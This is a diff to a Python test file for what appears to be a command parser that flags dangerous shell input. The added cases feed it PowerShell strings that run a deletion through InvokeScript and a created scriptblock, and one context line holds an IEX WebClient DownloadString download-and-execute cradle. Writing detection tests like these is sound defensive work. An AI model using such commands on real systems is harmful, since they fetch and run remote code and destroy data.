@@ -6,6 +6,11 @@ from spawngate.command.parse import read
 from tests.command.shown import shown
 
 CASES: list[tuple[str, list[str]]] = [
+    ('$ExecutionContext.InvokeCommand.InvokeScript("rm x")', ["rm x in:invokescript via:eval"]),
+    (
+        "& ([scriptblock]::Create('rm x'))",
+        ["rm x in:invokescript via:eval", "\"[scriptblock]::Create('rm x')\"[?@0] <-0 opaque:program"],
+    ),
     (
         'IEX (New-Object Net.WebClient).DownloadString("http://x")',
         [
